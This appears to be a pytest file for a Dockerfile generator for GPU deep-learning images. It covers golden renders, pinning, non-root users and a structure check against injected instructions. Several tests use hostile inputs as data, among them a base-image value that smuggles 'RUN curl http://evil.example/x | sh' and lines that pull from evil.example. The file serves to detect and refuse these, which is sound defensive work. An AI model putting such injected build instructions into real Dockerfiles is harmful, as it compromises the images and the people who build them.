"""Rendering Dockerfiles: exact golden output for representative cells of the fixture matrix, invariants for every
cell of the real one, output that is the same from one process to the next, and images/ drift.

Golden files live in generate/golden/<slug>.Dockerfile beside this file: the fixture's cells, rendered with the
repo's templates. After an intended template change (or a change to those cells in tests/fixtures/matrix.yaml),
regenerate them and review the diff:

    DLIMAGES_UPDATE_GOLDEN=1 python3 -m pytest tests/unit/generate/test_render.py -k golden
"""

from __future__ import annotations

import ast
import dataclasses
import errno
import functools
import logging
import os
import re
import shlex
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable
from pathlib import Path

import pytest

from dlimages.artifacts.pythonlock import LOCK_FILES
from dlimages.core.errors import InputError
from dlimages.generate.dockerfile_rules import dockerfile_problems
from dlimages.generate.generated import GeneratedFile
from dlimages.generate.project import Project
from dlimages.generate.render import (
    check_partials,
    environment,
    render_cell,
    render_tree,
    rendering,
    stale_files,
    write_tree,
)
from dlimages.model.cells import Cell, Expansion
from dlimages.model.spec import Matrix

REPO = Path(__file__).resolve().parents[3]
PAYLOAD = REPO / "src/dlimages/payload"
GOLDEN = Path(__file__).parent / "golden"
UPDATE_GOLDEN = os.environ.get("DLIMAGES_UPDATE_GOLDEN") == "1"

CellLookup = Callable[[str, str], Cell]
Rendered = tuple[Path, list[GeneratedFile]]

GOLDEN_CELLS = [
    # Ubuntu base, CUDA from PyTorch's cu118 wheels on PyTorch's own index; the image's default cell.
    ("pytorch", "cuda11.8-torch2.1.2-py3.10-runtime"),
    # Debian 12 base made by `invoke base`, PyPI's default wheel (CUDA 12.1 libraries from PyPI).
    ("pytorch", "cuda12.1-torch2.1.2-py3.11-runtime"),
    # PyTorch's find-links page, torchaudio without a local version tag.
    ("pytorch", "cuda11.0-torch1.7.1-py3.8-runtime"),
    # nvidia/cuda devel base with the system's CUDA, and the package set's per-release overrides.
    ("tensorflow", "cuda11.0-tf2.4.4-py3.8-devel"),
    # nvidia/cuda base with a newer cuDNN than upstream tested: a note in the header.
    ("tensorflow", "cuda11.8-tf2.13.1-py3.10-runtime"),
    # TensorFlow's CUDA libraries from PyPI, installed by name.
    ("tensorflow", "cuda11.8-tf2.14.1-py3.10-runtime"),
]


@pytest.fixture(scope="module")
def rendered(real_matrix: Matrix, real_expansion: Expansion) -> dict[str, str]:
    """Every real cell's Dockerfile, rendered from the repo's templates, keyed by its path under images/."""
    env = environment(REPO)
    return {cell.dockerfile: render_cell(env, real_matrix, cell) for cell in real_expansion.cells}


def _instructions(dockerfile: str) -> list[str]:
    """Dockerfile instructions with continuation lines joined and comment lines dropped."""
    result: list[str] = []
    current = ""
    for line in dockerfile.splitlines():
        if line.lstrip().startswith("#") or not line.strip():
            continue
        if line.endswith("\\"):
            current += line[:-1] + " "
        else:
            result.append((current + line).strip())
            current = ""
    assert not current, "a continuation line runs off the end of the file"
    return result


# --- Golden files -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("framework", "slug"), GOLDEN_CELLS, ids=[slug for _, slug in GOLDEN_CELLS])
def test_golden_render(matrix: Matrix, cell: CellLookup, framework: str, slug: str) -> None:
    text = render_cell(environment(REPO), matrix, cell(framework, slug))
    golden = GOLDEN / f"{slug}.Dockerfile"
    if UPDATE_GOLDEN:
        golden.parent.mkdir(exist_ok=True)
        golden.write_text(text, encoding="utf-8")
    assert golden.is_file(), f"no golden file {golden.name}; run with DLIMAGES_UPDATE_GOLDEN=1 to create it"
    assert text == golden.read_text(encoding="utf-8"), f"{slug} renders differently from {golden.name}"


def _golden(slug: str) -> str:
    return (GOLDEN / f"{slug}.Dockerfile").read_text(encoding="utf-8")


def test_golden_files_are_the_golden_cells() -> None:
    assert sorted(p.name for p in GOLDEN.glob("*.Dockerfile")) == sorted(
        f"{slug}.Dockerfile" for _, slug in GOLDEN_CELLS
    )


def test_golden_cells_show_what_makes_them_representative() -> None:
    ubuntu = _golden("cuda11.8-torch2.1.2-py3.10-runtime")
    assert "# Cell: test/pytorch-dev:v0.9-cuda11.8-torch2.1.2-py3.10-runtime\n" in ubuntu
    assert "ARG BASE_IMAGE=ubuntu:22.04\n" in ubuntu
    assert "ARG TORCH_INDEX_URL=https://download.pytorch.org/whl/cu118\n" in ubuntu
    assert '"torch==2.1.2+cu118"' in ubuntu
    assert 'set -- "PIP_INDEX_URL=${TORCH_INDEX_URL}"' in ubuntu and "PIP_EXTRA_INDEX_URL" not in ubuntu
    debian = _golden("cuda12.1-torch2.1.2-py3.11-runtime")
    assert (
        "# Made locally from an apt mirror by `invoke base` (no registry needed).\n"
        "ARG BASE_IMAGE=dlimages/base:debian12\n" in debian
    )
    assert "TORCH_INDEX_URL" not in debian and '"torch==2.1.2" \\' in debian
    assert "/etc/apt/sources.list.d/debian.sources" in debian
    old = _golden("cuda11.0-torch1.7.1-py3.8-runtime")
    assert "ARG TORCH_FIND_LINKS=https://download.pytorch.org/whl/torch_stable.html\n" in old
    assert '"torchaudio==0.7.2"' in old
    tf = _golden("cuda11.0-tf2.4.4-py3.8-devel")
    assert "ARG BASE_IMAGE=nvidia/cuda:11.0.3-cudnn8-devel-ubuntu20.04\n" in tf
    assert '"numpy==1.19.5"' in tf and "NVIDIA_REQUIRE_CUDA=" not in tf
    tf_xla = _golden("cuda11.8-tf2.13.1-py3.10-runtime")
    assert "# Note: upstream tested cuDNN 8.6;" in tf_xla
    assert '"nvidia-cuda-nvcc-cu11==11.8.89"' in tf_xla
    assert "ENV XLA_FLAGS=--xla_gpu_cuda_data_dir=/opt/venv/lib/python3.10/site-packages/nvidia/cuda_nvcc\n" in tf_xla
    assert '"nvidia-cudnn-cu11==8.7.0.84"' in _golden("cuda11.8-tf2.14.1-py3.10-runtime")
    assert "XLA_FLAGS" not in _golden("cuda11.8-tf2.14.1-py3.10-runtime")  # the fixture's 2.14.1 has no nvcc wheel


def test_every_pip_run_mounts_the_secrets_and_trusts_the_extra_ca_only_when_given() -> None:
    # templates/macros.j2 writes this preamble for every RUN that calls pip.
    runs = [i for i in _instructions(_golden("cuda11.8-torch2.1.2-py3.10-runtime")) if i.startswith("RUN ")]
    pip_runs = [run for run in runs if "pip install" in run]
    assert len(pip_runs) == 3  # pip itself, the framework, the package set
    for run in pip_runs:
        assert "--mount=type=secret,id=pip_ca,target=/mnt/secrets/pip_ca,uid=1000 " in run
        assert "if [ -s /mnt/secrets/pip_ca ]; then export PIP_CERT=/mnt/secrets/pip_ca; fi" in run
        # The secrets live in the step's tmpfs at /mnt: a mount point made in the image's own folders (the user's
        # home, /run/secrets) would leave its folder in the layer.
        assert "--mount=type=secret,id=netrc,target=/mnt/secrets/netrc,uid=1000 " in run
        assert "if [ -s /mnt/secrets/netrc ]; then export NETRC=/mnt/secrets/netrc; fi" in run


# --- Invariants of every rendered Dockerfile ----------------------------------------------------------------


# `invoke render`, without tasks.py: the package calls that task makes, in the current folder.
_RENDER = """
from pathlib import Path
from dlimages.generate.project import Project
from dlimages.generate.render import render_tree, write_tree
project = Project(Path.cwd())
write_tree(project.root, render_tree(project.root, project.matrix, project.expansion))
"""


def _tree(root: Path) -> dict[str, tuple[bytes, bool]]:
    return {
        str(p.relative_to(root)): (p.read_bytes(), os.access(p, os.X_OK))
        for p in sorted((root / "images").rglob("*"))
        if p.is_file()
    }


def test_rendering_is_the_same_in_two_processes(tmp_path: Path) -> None:
    # Two interpreters with different hash seeds: set or dict order leaking into the output would show here.
    trees = []
    for seed in ("1", "2"):
        root = tmp_path / f"render-{seed}"
        root.mkdir()
        shutil.copy2(REPO / "matrix.yaml", root / "matrix.yaml")
        shutil.copytree(REPO / "templates", root / "templates")
        env = {**os.environ, "PYTHONHASHSEED": seed}
        subprocess.run([sys.executable, "-c", _RENDER], cwd=root, env=env, check=True, timeout=60)
        trees.append(_tree(root))
    assert trees[0] and trees[0] == trees[1]


def test_every_dockerfile_starts_with_the_generated_header(real_expansion: Expansion, rendered: dict[str, str]) -> None:
    for c in real_expansion.cells:
        head = rendered[c.dockerfile].splitlines()[:4]
        assert (
            head[0]
            == "# Generated by dlimages from matrix.yaml and templates/: do not edit; run `invoke render` instead."
        )
        assert head[1] == f"# Cell: {c.image}:{c.immutable_tag}"
        flag = "torch" if c.framework == "pytorch" else "tf"
        build = f"invoke build --cuda {c.cuda} --{flag} {c.framework_version} --python {c.python} --flavor {c.flavor}"
        assert head[3] == f"# Build: {build}"


def test_every_dockerfile_labels_its_facts(real_expansion: Expansion, rendered: dict[str, str]) -> None:
    for c in real_expansion.cells:
        [label] = [i for i in _instructions(rendered[c.dockerfile]) if i.startswith("LABEL ")]
        labels = dict(re.findall(r'(\S+)="([^"]*)"', label))
        expected = {
            "io.dlimages.cuda": c.cuda,
            "io.dlimages.cudnn": c.cudnn,
            "io.dlimages.framework": c.framework,
            "io.dlimages.framework-version": c.framework_version,
            "io.dlimages.python": c.python,
            "io.dlimages.min-driver": c.min_driver,
            "org.opencontainers.image.title": c.image,
            "org.opencontainers.image.version": c.immutable_tag,
            "org.opencontainers.image.base.name": "${BASE_NAME}",
            "org.opencontainers.image.base.digest": "${BASE_DIGEST}",
            "org.opencontainers.image.revision": "${REVISION}",
        }
        assert {key: labels.get(key) for key in expected} == expected, c.slug
        # Built without `invoke build` (plain `docker build`), the label still names the base matrix.yaml gives.
        assert f"ARG BASE_NAME={c.base_image}" in _instructions(rendered[c.dockerfile]), c.slug


def test_every_dockerfile_exposes_the_gpu(real_expansion: Expansion, rendered: dict[str, str]) -> None:
    for c in real_expansion.cells:
        text = rendered[c.dockerfile]
        env = " ".join(i for i in _instructions(text) if i.startswith("ENV "))
        assert "NVIDIA_VISIBLE_DEVICES=all" in env, c.slug
        assert "NVIDIA_DRIVER_CAPABILITIES=compute,utility" in env, c.slug
        if c.cuda_source == "wheel":
            # Without the nvidia/cuda base nothing else tells the container toolkit which driver is needed.
            assert f'NVIDIA_REQUIRE_CUDA="{c.driver.require_cuda}"' in env, c.slug
        else:
            assert "NVIDIA_REQUIRE_CUDA" not in env, f"{c.slug} must keep the base image's driver-branch exceptions"


def test_every_dockerfile_ends_as_a_non_root_user(real_expansion: Expansion, rendered: dict[str, str]) -> None:
    for c in real_expansion.cells:
        users = [i for i in _instructions(rendered[c.dockerfile]) if i.startswith("USER ")]
        assert users, c.slug
        assert re.fullmatch(r"USER 1000(:1000)?", users[-1]), f"{c.slug}: last {users[-1]!r}"


_PIP_OPTIONS_WITH_VALUE = {
    "-c",
    "--constraint",
    "-r",
    "--requirement",
    "-i",
    "--index-url",
    "--extra-index-url",
    "-f",
    "--find-links",
}


def _pip_requirements(instruction: str) -> list[str]:
    """The requirement arguments of every `pip install` in a RUN instruction."""
    requirements: list[str] = []
    lexer = shlex.shlex(instruction, posix=True, punctuation_chars="&;|")
    lexer.whitespace_split = True
    commands: list[list[str]] = [[]]
    for token in lexer:
        if token in ("&&", ";", "||", "|", "&"):
            commands.append([])
        else:
            commands[-1].append(token)
    for words in commands:
        for i in range(len(words) - 1):
            if words[i].endswith("pip") and words[i + 1] == "install":
                args = words[i + 2 :]
                skip = False
                for word in args:
                    if skip:
                        skip = False
                    elif word in _PIP_OPTIONS_WITH_VALUE:
                        skip = True
                    elif not word.startswith("-"):
                        requirements.append(word)
    return requirements


def test_every_pip_requirement_is_pinned(real_expansion: Expansion, rendered: dict[str, str]) -> None:
    for c in real_expansion.cells:
        runs = [i for i in _instructions(rendered[c.dockerfile]) if i.startswith("RUN ")]
        requirements = [r for run in runs for r in _pip_requirements(run)]
        assert len(requirements) >= 1 + len(c.install.requirements) + len(c.packages), c.slug
        unpinned = [
            r for r in requirements if not re.fullmatch(r"[A-Za-z0-9._-]+(\[[a-z0-9,-]+\])?==[A-Za-z0-9.+]+", r)
        ]
        assert not unpinned, f"{c.slug}: {unpinned}"


def test_the_pin_check_catches_an_unpinned_requirement() -> None:
    run = 'RUN pip install --constraint /c.txt "numpy==1.0" scipy && pip install -U pip'
    assert _pip_requirements(run) == ["numpy==1.0", "scipy", "pip"]


def test_no_layer_holds_apt_lists_or_downloads(real_expansion: Expansion, rendered: dict[str, str]) -> None:
    for c in real_expansion.cells:
        updates = [i for i in _instructions(rendered[c.dockerfile]) if "apt-get update" in i]
        assert updates, c.slug
        for run in updates:
            assert "--mount=type=tmpfs,target=/var/lib/apt/lists" in run, f"{c.slug}: {run[:80]}"
            assert "--mount=type=tmpfs,target=/var/cache/apt" in run, f"{c.slug}: {run[:80]}"


def test_every_step_ends_by_normalizing_what_it_wrote(real_expansion: Expansion, rendered: dict[str, str]) -> None:
    """Reproducible layers: every RUN ends with dl-normalize and its step number, 1, 2, ... (file times, emptied
    logs), has a tmpfs at /tmp, and nothing enters by COPY or ADD, which keep the checkout's file times."""
    for c in real_expansion.cells:
        instructions = _instructions(rendered[c.dockerfile])
        runs = [i for i in instructions if i.startswith("RUN ")]
        assert runs, c.slug
        for number, run in enumerate(runs, start=1):
            assert run.endswith(f"&& /mnt/dl-normalize {number}"), f"{c.slug}: {run[-80:]}"
            assert "--mount=type=tmpfs,target=/tmp " in run, c.slug
            assert "--mount=type=bind,source=assets/dl-normalize,target=/mnt/dl-normalize" in run
        assert not [i for i in instructions if i.startswith(("COPY ", "ADD "))], c.slug
        assert "ARG SOURCE_DATE_EPOCH=0" in instructions and "ARG PYTHONHASHSEED=0" in instructions


@functools.cache
def _needs(script: str) -> frozenset[str]:
    """The payload modules `script` imports beside it as a plain file does (`import dl_x`), and theirs in turn."""
    needed: set[str] = set()
    todo = [script]
    while todo:
        tree = ast.parse((PAYLOAD / todo.pop()).read_text(encoding="utf-8"))
        names = {f"{a.name}.py" for node in ast.walk(tree) if isinstance(node, ast.Import) for a in node.names}
        found = {name for name in names if name.startswith("dl_")} - needed
        todo += found
        needed |= found
    return frozenset(needed)


def test_every_image_installs_the_modules_its_commands_import(
    real_expansion: Expansion, rendered: dict[str, str]
) -> None:
    """dl-smoke and dl-bench start in /usr/local/bin with the modules they import beside them, and nothing more: a
    TensorFlow image has dl-smoke's parts, not dl-bench's."""
    for c in real_expansion.cells:
        [run] = [i for i in _instructions(rendered[c.dockerfile]) if " /mnt/dl-smoke " in i]
        commands = re.findall(r" /mnt/dl-(smoke|bench)(?= )", run)
        assert commands == (["smoke", "bench"] if c.framework == "pytorch" else ["smoke"]), c.slug
        wanted = set().union(*(_needs(f"dl_{command}.py") for command in commands))
        [installed] = re.findall(r"install -m 0644((?: /mnt/dl_\w+\.py)+) /usr/local/bin/", run)
        assert sorted(installed.split()) == sorted(f"/mnt/{module}" for module in wanted), c.slug
        for module in wanted:
            assert f"--mount=type=bind,source=assets/{module},target=/mnt/{module}" in run, (c.slug, module)


def test_no_dockerfile_pins_a_frontend_syntax(rendered: dict[str, str]) -> None:
    # A `# syntax=` line makes BuildKit pull a frontend image from a registry, which offline builds cannot.
    for path, text in rendered.items():
        assert not re.search(r"^#\s*syntax\s*=", text, re.MULTILINE | re.IGNORECASE), path


def test_every_dockerfile_installs_its_own_cell_json(real_expansion: Expansion, rendered: dict[str, str]) -> None:
    for c in real_expansion.cells:
        text = rendered[c.dockerfile]
        assert f"--mount=type=bind,source={c.framework}/{c.slug}/cell.json,target=/mnt/cell.json" in text
        assert "install -D -m 0644 /mnt/cell.json /etc/dlimages/cell.json" in text


# --- Where the framework comes from, and one consistent environment ------------------------------------------


def _framework_run(dockerfile: str) -> str:
    """The RUN instruction that installs the framework (it writes the constraints file)."""
    [run] = [i for i in _instructions(dockerfile) if i.startswith("RUN ") and "> /opt/venv/constraints.txt" in i]
    return run


def _index_choice(run: str, **build_args: str) -> list[str]:
    """The environment the framework's own `pip install` gets, by running the RUN's `if ... fi` that chooses it."""
    found = re.search(r'if \[ -n "\$\{TORCH_INDEX_URL\}" \]; then .*?fi', run)
    assert found, "no choice of index before the framework's pip install"
    script = f'{found.group(0)}; printf "%s\\n" "$@"'
    done = subprocess.run(["bash", "-c", script], env=build_args, capture_output=True, text=True, check=True)
    return done.stdout.splitlines()


def test_unlocked_pytorch_takes_its_wheels_from_pytorchs_index_alone(matrix: Matrix, cell: CellLookup) -> None:
    """PyTorch documents `--index-url` for its CUDA builds: with an extra index, a package of the same name on another
    index could win. The framework's wheels come from that one index (or a mirror's find-links page alone), what they
    require from PyPI; no pip call sees both."""
    run = _framework_run(render_cell(environment(REPO), matrix, cell("pytorch", "cuda11.8-torch2.1.2-py3.10-runtime")))
    index = "https://download.pytorch.org/whl/cu118"
    assert _index_choice(run, TORCH_INDEX_URL=index, TORCH_FIND_LINKS="") == [f"PIP_INDEX_URL={index}"]
    mirror = "https://mirror.example.org/pytorch-wheels/cu118/"
    assert _index_choice(run, TORCH_INDEX_URL="", TORCH_FIND_LINKS=mirror) == [
        "PIP_NO_INDEX=1",
        f"PIP_FIND_LINKS={mirror}",
    ]
    assert "PIP_EXTRA_INDEX_URL" not in run
    first, second = run.split(" pip install ")[1:]
    assert run.split(" pip install ")[0].endswith('env "$@" setpriv --reuid=1000 --regid=1000 --clear-groups')
    assert first.startswith("--no-deps ") and '"torch==2.1.2+cu118"' in first
    assert second.startswith("--constraint /opt/venv/constraints.txt ") and '"torch==2.1.2+cu118"' in second


def test_a_locked_install_may_ask_both_indexes_since_the_hash_decides(matrix: Matrix, cell: CellLookup) -> None:
    run = _framework_run(
        render_cell(environment(REPO), matrix, cell("pytorch", "cuda11.8-torch2.1.2-py3.10-runtime"), locked=True)
    )
    assert 'export PIP_EXTRA_INDEX_URL="${TORCH_INDEX_URL}"' in run
    assert "pip install --no-deps --require-hashes --only-binary=:all: -r /mnt/framework.lock" in run


def test_a_find_links_release_installs_as_pytorch_documents_it(matrix: Matrix, cell: CellLookup) -> None:
    # `pip install torch==1.7.1+cu110 ... -f https://download.pytorch.org/whl/torch_stable.html`: the page and PyPI.
    run = _framework_run(render_cell(environment(REPO), matrix, cell("pytorch", "cuda11.0-torch1.7.1-py3.8-runtime")))
    assert 'export PIP_FIND_LINKS="${TORCH_FIND_LINKS}"' in run and "--no-deps" not in run
    assert "pip install --constraint /opt/venv/constraints.txt" in run


def test_every_image_runs_pip_check_after_its_last_install(
    real_matrix: Matrix, real_expansion: Expansion, rendered: dict[str, str]
) -> None:
    """The framework and the package set install in separate steps: `pip check` proves they agree, locked or not."""
    env = environment(REPO)
    for c in real_expansion.cells:
        for locked, text in ((False, rendered[c.dockerfile]), (True, render_cell(env, real_matrix, c, locked=True))):
            runs = [i for i in _instructions(text) if i.startswith("RUN ") and " pip install " in i]
            last = runs[-1]
            assert " pip check " in last[last.rindex(" pip install ") :], f"{c.slug} (locked={locked})"


# Keras optimizers compile their update step with XLA on GPU from TF 2.11 on (tensorflow/tensorflow#58681).
XLA_OPTIMIZERS_FROM = (2, 11)


def test_tensorflow_cells_that_train_with_xla_carry_libdevice(
    real_expansion: Expansion, rendered: dict[str, str]
) -> None:
    """XLA wants <dir>/nvvm/libdevice/libdevice.10.bc. NVIDIA's nvcc wheel for the cell's CUDA has it under
    site-packages/nvidia/cuda_nvcc, and XLA_FLAGS points there; a locked cell has the wheel in its framework layer."""
    cells = [
        c
        for c in real_expansion.cells
        if c.framework == "tensorflow" and tuple(map(int, c.framework_version.split(".")[:2])) >= XLA_OPTIMIZERS_FROM
    ]
    assert cells
    for c in cells:
        major = c.cuda.split(".")[0]
        framework_lock = REPO / "images" / c.framework / c.slug / "framework.lock"
        named = [r for r in c.install.requirements if r.startswith(f"nvidia-cuda-nvcc-cu{major}==")]
        if not named:
            # tensorflow[and-cuda] (2.15 on) pins the wheel itself, and TensorFlow finds it from 2.14 on (the image
            # test test_xla_finds_libdevice_and_ptxas checks where it looks).
            assert c.install.requirements[0].startswith("tensorflow[and-cuda]=="), f"{c.slug}: no nvcc wheel"
            if framework_lock.is_file():
                pattern = rf"^nvidia-cuda-nvcc-cu{major}=={re.escape(c.cuda)}\.[0-9.]+ \\$"
                assert re.search(pattern, framework_lock.read_text(), re.MULTILINE), f"{c.slug}: no CUDA {c.cuda} nvcc"
            continue
        [nvcc] = named
        assert nvcc.split("==")[1].startswith(f"{c.cuda}."), f"{c.slug}: {nvcc} is not CUDA {c.cuda}'s"
        folder = f"/opt/venv/lib/python{c.python}/site-packages/nvidia/cuda_nvcc"
        assert f"ENV XLA_FLAGS=--xla_gpu_cuda_data_dir={folder}" in _instructions(rendered[c.dockerfile]), c.slug
        if framework_lock.is_file():
            assert re.search(rf"^{re.escape(nvcc)} \\$", framework_lock.read_text(), re.MULTILINE), c.slug


# --- images/ on disk ------------------------------------------------------------------------------------------


def test_committed_images_are_up_to_date(real_matrix: Matrix, real_expansion: Expansion) -> None:
    problems = stale_files(REPO, render_tree(REPO, real_matrix, real_expansion))
    assert problems == [], "\n".join(map(str, problems))


@pytest.fixture
def rendered_copy(repo_copy: Path) -> Rendered:
    """A temporary repo (the fixture matrix, the real templates) with images/ freshly written."""
    project = Project(repo_copy)
    files = render_tree(repo_copy, project.matrix, project.expansion)
    assert len(write_tree(repo_copy, files)) == len(files)
    assert stale_files(repo_copy, files) == []
    return repo_copy, files


def test_stale_files_detects_a_hand_edited_file(rendered_copy: Rendered) -> None:
    root, files = rendered_copy
    path = "images/pytorch/cuda11.8-torch2.1.2-py3.10-runtime/Dockerfile"
    with (root / path).open("a", encoding="utf-8") as handle:
        handle.write("RUN echo hand-made\n")
    assert [str(p) for p in stale_files(root, files)] == [
        f"{path}: differs from its sources (stale or edited by hand); run `invoke render`"
    ]


def test_stale_files_detects_a_missing_file(rendered_copy: Rendered) -> None:
    root, files = rendered_copy
    path = "images/tensorflow/cuda11.0-tf2.4.4-py3.8-devel/cell.json"
    (root / path).unlink()
    assert [str(p) for p in stale_files(root, files)] == [f"{path}: missing; run `invoke render`"]


def test_stale_files_detects_an_extra_file(rendered_copy: Rendered) -> None:
    root, files = rendered_copy
    extra = root / "images/pytorch/cuda11.7-torch9.0.0-py3.10-runtime/Dockerfile"
    extra.parent.mkdir()
    extra.write_text("FROM scratch\n", encoding="utf-8")
    assert [str(p) for p in stale_files(root, files)] == [
        "images/pytorch/cuda11.7-torch9.0.0-py3.10-runtime/Dockerfile: not generated by any cell; "
        "run `invoke render` to remove it"
    ]


def test_stale_files_detects_a_wrong_mode(rendered_copy: Rendered) -> None:
    root, files = rendered_copy
    (root / "images/assets/dl-entrypoint").chmod(0o644)
    assert [str(p) for p in stale_files(root, files)] == [
        "images/assets/dl-entrypoint: has mode 644, expected 755; run `invoke render`"
    ]


def test_write_tree_repairs_drift_and_is_then_idempotent(rendered_copy: Rendered) -> None:
    root, files = rendered_copy
    (root / "images/assets/dl-entrypoint").chmod(0o644)
    (root / "images/tensorflow/cuda11.0-tf2.4.4-py3.8-devel/cell.json").unlink()
    (root / "images/pytorch/old").mkdir()
    (root / "images/pytorch/old/Dockerfile").write_text("FROM scratch\n", encoding="utf-8")
    assert sorted(write_tree(root, files)) == [
        "removed images/pytorch/old/Dockerfile",
        "wrote images/assets/dl-entrypoint",
        "wrote images/tensorflow/cuda11.0-tf2.4.4-py3.8-devel/cell.json",
    ]
    assert not (root / "images/pytorch/old").exists()
    assert stale_files(root, files) == []
    assert write_tree(root, files) == []


def test_missing_partial_is_reported_with_the_partials_that_exist(matrix: Matrix, repo_copy: Path) -> None:
    (repo_copy / "templates/partials/jupyterlab.j2").unlink()
    with pytest.raises(InputError) as caught:
        check_partials(repo_copy, matrix)
    assert caught.value.report() == (
        "error: matrix.yaml: partials[6]: no template templates/partials/jupyterlab.j2 "
        "(allowed: base, framework, labels, mirrors, os-packages, packages, shell, user)"
    )


def _snapshot(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted((root / "images").rglob("*")) if p.is_file()}


def test_render_writes_nothing_when_validation_fails(rendered_copy: Rendered) -> None:
    root, _ = rendered_copy
    before = _snapshot(root)
    matrix_file = root / "matrix.yaml"
    matrix_file.write_text(
        matrix_file.read_text(encoding="utf-8").replace(
            "partials: [base, mirrors,", "partials: [base, proxy, mirrors,", 1
        ),
        encoding="utf-8",
    )
    (root / "templates/partials/labels.j2").write_text("LABEL changed=1\n", encoding="utf-8")  # would change every file
    result = subprocess.run(
        [sys.executable, "-m", "invoke", "render"], cwd=root, capture_output=True, text=True, timeout=60, check=False
    )
    assert result.returncode == 2, result.stderr
    assert "error: matrix.yaml: partials[1]: no template templates/partials/proxy.j2" in result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    assert _snapshot(root) == before


def _render(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "invoke", "render", *args],
        cwd=root,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )


# --- Every render checks what the Dockerfiles hold (issue 8) -------------------------------------------------

UBUNTU_SLUG = "cuda11.8-torch2.1.2-py3.10-runtime"


def test_every_rendered_dockerfile_holds_only_what_the_templates_write(
    real_expansion: Expansion, rendered: dict[str, str], expansion: Expansion, matrix: Matrix
) -> None:
    for c in real_expansion.cells:
        assert dockerfile_problems(c.dockerfile, rendered[c.dockerfile], c) == [], c.slug
    env = environment(REPO)
    for c in expansion.cells:
        assert dockerfile_problems(c.dockerfile, render_cell(env, matrix, c), c) == [], c.slug


def _edited(text: str, old: str, new: str) -> str:
    assert text.count(old) == 1, old
    return text.replace(old, new)


_FROM = "FROM ${BASE_IMAGE}\n"
_END = 'CMD ["jupyter", "lab"]\n'


@pytest.mark.parametrize(
    ("edit", "problem"),
    [
        pytest.param(
            lambda t: _edited(t, _END, _END + "USER root\n"),
            "switches to a user other than the image's own (allowed: USER 1000:1000)",
            id="user-root",
        ),
        pytest.param(
            lambda t: _edited(t, _FROM, "FROM ${BASE_IMAGE} AS build\n"),
            "a second FROM, or a FROM other than the one the templates write (allowed: FROM ${BASE_IMAGE})",
            id="from-as",
        ),
        pytest.param(
            lambda t: _edited(t, _END, _END + "FROM evil.example/image\n"),
            "a second FROM, or a FROM other than the one the templates write (allowed: FROM ${BASE_IMAGE})",
            id="second-from",
        ),
        pytest.param(
            lambda t: _edited(t, _END, _END + "ADD http://evil.example/x /usr/local/bin/x\n"),
            "instruction 'ADD' is not one the templates write (allowed: ARG, FROM, SHELL, ENV, RUN, USER, WORKDIR, "
            "COPY, EXPOSE, LABEL, ENTRYPOINT, CMD)",
            id="add-url",
        ),
        pytest.param(
            lambda t: _edited(t, _END, _END + "ONBUILD RUN id\n"),
            "instruction 'ONBUILD' is not one the templates write (allowed: ARG, FROM, SHELL, ENV, RUN, USER, WORKDIR, "
            "COPY, EXPOSE, LABEL, ENTRYPOINT, CMD)",
            id="onbuild",
        ),
        pytest.param(
            lambda t: _edited(t, _END, _END + "COPY --from=evil.example/image / /\n"),
            "COPY with the flag '--from=evil.example/image', which the templates never use",
            id="copy-from-image",
        ),
        pytest.param(
            lambda t: _edited(t, _END, _END + "RUN --network=host id\n"),
            "RUN with the flag '--network=host', which the templates never use",
            id="run-network",
        ),
        pytest.param(
            lambda t: _edited(t, _END, _END + "RUN --security=insecure id\n"),
            "RUN with the flag '--security=insecure', which the templates never use",
            id="run-insecure",
        ),
        pytest.param(
            lambda t: _edited(t, _END, _END + "RUN --mount=type=bind,from=evil.example/x,target=/x id\n"),
            "RUN with the flag '--mount=type=bind,from=evil.example/x,target=/x', which the templates never use",
            id="run-bind-mount",
        ),
        pytest.param(
            lambda t: _edited(t, _END, _END + "RUN echo \u202ehidden\n"),
            "has characters outside printable ASCII",
            id="bidi-control",
        ),
        pytest.param(
            lambda t: _edited(t, "ARG BASE_IMAGE=ubuntu:22.04\n", "ARG BASE_IMAGE=ubuntu:22.04\nRUN id\n"),
            "only `ARG BASE_IMAGE=<image reference>` may come before FROM",
            id="run-before-from",
        ),
        pytest.param(
            lambda t: "# syntax=evil.example/frontend\n" + t,
            "does not start with the generated header (a parser directive such as `# syntax=` may not come first)",
            id="syntax-directive",
        ),
    ],
)
def test_the_structure_check_refuses_what_the_templates_never_write(
    cell: CellLookup, edit: Callable[[str], str], problem: str
) -> None:
    text = edit(_golden(UBUNTU_SLUG))
    lines = text.splitlines()
    problems = dockerfile_problems("images/x/Dockerfile", text, cell("pytorch", UBUNTU_SLUG))
    assert [p.message + (f" (allowed: {p.allowed})" if p.allowed else "") for p in problems] == [problem]
    number = int(problems[0].where.rpartition(":")[2])
    assert problems[0].where == f"images/x/Dockerfile:{number}" and 1 <= number <= len(lines)


def test_the_structure_check_refuses_a_dockerfile_that_stays_root(cell: CellLookup) -> None:
    # matrix.yaml chooses the partials: without `user` and `labels` nothing would switch away from root.
    text = "".join(line for line in _golden(UBUNTU_SLUG).splitlines(keepends=True) if not line.startswith("USER "))
    problems = dockerfile_problems("images/x/Dockerfile", text, cell("pytorch", UBUNTU_SLUG))
    assert [str(p) for p in problems] == [
        f"images/x/Dockerfile:{len(text.splitlines())}: never switches to the image's own user: the image would run "
        "as root (allowed: USER 1000:1000)"
    ]


def test_the_structure_check_refuses_a_here_document(cell: CellLookup) -> None:
    # Its body would hide instructions from a line-based check, so the templates never use one.
    text = _golden(UBUNTU_SLUG) + "RUN <<EOF\nid\nEOF\n"
    problems = dockerfile_problems("images/x/Dockerfile", text, cell("pytorch", UBUNTU_SLUG))
    assert "RUN with a here-document, which the templates never use" in [p.message for p in problems]


def test_render_refuses_a_cell_whose_base_image_carries_an_instruction(
    repo_copy: Path, matrix: Matrix, expansion: Expansion
) -> None:
    # What a newline in os.*.image wrote into 22 Dockerfiles; spec refuses the value, and render checks again.
    hostile = dataclasses.replace(expansion.cells[0], base_image="ubuntu:22.04\nRUN curl http://evil.example/x | sh")
    with pytest.raises(InputError) as caught:
        render_tree(repo_copy, matrix, Expansion((hostile, *expansion.cells[1:])))
    report = caught.value.report().splitlines()
    assert report[0] == "Rendered Dockerfiles hold what the templates must never write; nothing was written:"
